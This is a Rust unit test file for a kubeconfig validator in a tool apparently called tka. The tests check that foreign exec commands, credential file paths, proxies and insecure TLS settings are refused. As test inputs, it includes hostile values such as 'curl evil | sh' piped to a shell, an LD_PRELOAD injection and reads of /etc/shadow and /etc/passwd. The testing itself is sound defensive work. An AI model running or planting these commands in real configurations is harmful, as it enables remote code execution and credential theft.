//! Unit tests of [`super::accept`]: what tka writes passes unchanged, everything that could run code, read files
//! or weaken TLS is refused with a reason.

use super::*;
use crate::model::kubeconfig::{Auth, ClusterEntry, Naming, v1};
use serde_json::json;

const SERVER: &str = "https://tka.example.ts.net";

fn doc(auth: Auth, insecure: bool) -> Value {
    let naming = Naming {
        login: "alice@example.com".into(),
        user_prefix: "tka-user-".into(),
        context_prefix: "tka-context-".into(),
        tka_server: SERVER.into(),
    };
    let entry = ClusterEntry {
        name: "prod".into(),
        server_url: "https://k8s.example:6443".into(),
        ca_data: "Q0E=".into(),
        insecure_skip_tls_verify: insecure,
        namespace: Some("team-a".into()),
        auth,
        names: None,
    };
    v1(&naming, &[entry])
}

fn exec_doc() -> Value {
    doc(
        Auth::Exec {
            server: SERVER.into(),
            auto_login: true,
        },
        false,
    )
}

fn refused(d: &Value) -> String {
    accept(d, SERVER, false).unwrap_err().join("\n")
}

#[test]
fn what_tka_produces_is_accepted_unchanged() {
    for d in [doc(Auth::Token("t".into()), false), exec_doc()] {
        let a = accept(&d, SERVER, false).unwrap();
        assert_eq!(a.doc, d);
        assert!(a.warnings.is_empty());
    }
}

/// `credential --server <server> --cluster <cluster>` plus `extra`.
fn credential(server: &str, cluster: &str, extra: &[&str]) -> Value {
    let mut a = vec!["credential", "--server", server, "--cluster", cluster];
    a.extend_from_slice(extra);
    json!(a)
}

#[test]
fn foreign_commands_args_and_env_are_refused() {
    let exec = "/users/0/user/exec";
    let cases: Vec<(&str, Value, &str)> = vec![
        ("command", json!("/bin/sh"), "runs \"/bin/sh\""),
        ("command", json!("./tka"), "runs \"./tka\""),
        (
            "args",
            json!(["-c", "curl evil | sh"]),
            "do not start with `credential`",
        ),
        (
            "args",
            credential(SERVER, "prod", &["--debug"]),
            "\"--debug\"",
        ),
        (
            "args",
            credential("https://evil", "prod", &[]),
            "not the server this CLI reached",
        ),
        (
            "args",
            credential(SERVER, "--config=/tmp/x", &[]),
            "not a valid cluster name",
        ),
        (
            "args",
            credential(SERVER, "p", &["--server", SERVER]),
            "\"--server\"",
        ),
        (
            "env",
            json!([{"name": "LD_PRELOAD", "value": "/tmp/x.so"}]),
            "environment",
        ),
        ("interactiveMode", json!("Always"), "interactiveMode"),
        ("provideClusterInfo", json!(true), "provideClusterInfo"),
        (
            "apiVersion",
            json!("client.authentication.k8s.io/v1alpha1"),
            "apiVersion",
        ),
        ("shell", json!("x"), "\"shell\""),
    ];
    for (field, value, needle) in cases {
        let mut d = exec_doc();
        d.pointer_mut(exec).unwrap()[field] = value;
        let p = refused(&d);
        assert!(p.contains(needle), "{field}: {p}");
    }
}

#[test]
fn auth_providers_credential_paths_and_proxies_are_refused() {
    let cases: Vec<(&str, &str, Value)> = vec![
        (
            "/users/0/user",
            "auth-provider",
            json!({"name": "oidc", "config": {}}),
        ),
        (
            "/users/0/user",
            "client-certificate",
            json!("/home/u/.ssh/id"),
        ),
        ("/users/0/user", "client-key", json!("/home/u/.ssh/id")),
        ("/users/0/user", "tokenFile", json!("/etc/shadow")),
        ("/users/0/user", "as", json!("system:admin")),
        (
            "/clusters/0/cluster",
            "proxy-url",
            json!("http://evil:3128"),
        ),
        (
            "/clusters/0/cluster",
            "certificate-authority",
            json!("/etc/passwd"),
        ),
        ("/clusters/0/cluster", "tls-server-name", json!("other")),
        ("/contexts/0/context", "as", json!("x")),
        ("", "preferences", json!({})),
    ];
    for (at, key, value) in cases {
        let mut d = doc(Auth::Token("t".into()), false);
        d.pointer_mut(at).unwrap()[key] = value;
        let p = refused(&d);
        assert!(p.contains(&format!("sets {key:?}")), "{key}: {p}");
    }
}

#[test]
fn insecure_clusters_need_the_users_consent_and_are_announced() {
    let d = doc(Auth::Token("t".into()), true);
    assert!(refused(&d).contains("--allow-insecure-skip-tls-verify"));
    let a = accept(&d, SERVER, true).unwrap();
    assert_eq!(a.warnings.len(), 1);
    assert!(
        a.warnings[0].contains("will not verify"),
        "{:?}",
        a.warnings
    );
    let mut d = d;
    d["clusters"][0]["cluster"]["insecure-skip-tls-verify"] = json!("true");
    assert!(refused(&d).contains("not a boolean"));
}

#[test]
fn structure_names_and_references_are_checked() {
    let mut d = doc(Auth::Token("t".into()), false);
    d["users"][0]["user"] = json!({"token": "t", "exec": {}});
    assert!(refused(&d).contains("either a token or"));
    let mut d = doc(Auth::Token("t".into()), false);
    let dup = d["users"][0].clone();
    d["users"].as_array_mut().unwrap().push(dup);
    assert!(refused(&d).contains("two entries named"));
    let mut d = doc(Auth::Token("t".into()), false);
    d["contexts"][0]["context"]["cluster"] = json!("elsewhere");
    assert!(refused(&d).contains("does not define"));
    let mut d = doc(Auth::Token("t".into()), false);
    d["current-context"] = json!("nope");
    assert!(refused(&d).contains("current-context"));
    let mut d = doc(Auth::Token("t".into()), false);
    d["clusters"][0]["cluster"]["server"] = json!("file:///etc/passwd");
    assert!(refused(&d).contains("is not an https://"));
    let mut d = doc(Auth::Token("t".into()), false);
    d["clusters"][0]["cluster"]["extensions"] = json!([{"name": "other", "extension": {}}]);
    assert!(refused(&d).contains("extensions other than"));
    assert!(refused(&json!([])).contains("not a YAML/JSON object"));
    assert!(refused(&json!({"apiVersion": "v2", "kind": "Config"})).contains("apiVersion: v1"));
}

#[test]
fn the_exec_stanza_is_rebuilt_so_its_free_text_is_tkas_own() {
    let mut d = exec_doc();
    d["users"][0]["user"]["exec"]["installHint"] =
        json!("run curl https://evil | sh to install tka");
    d["users"][0]["user"]["exec"]["apiVersion"] = json!(EXEC_API_V1BETA1);
    let a = accept(&d, SERVER, false).unwrap();
    let exec = &a.doc["users"][0]["user"]["exec"];
    assert!(!exec["installHint"].as_str().unwrap().contains("evil"));
    assert_eq!(exec["apiVersion"], EXEC_API_V1BETA1);
    assert_eq!(exec["args"][5], "--auto-login");
}
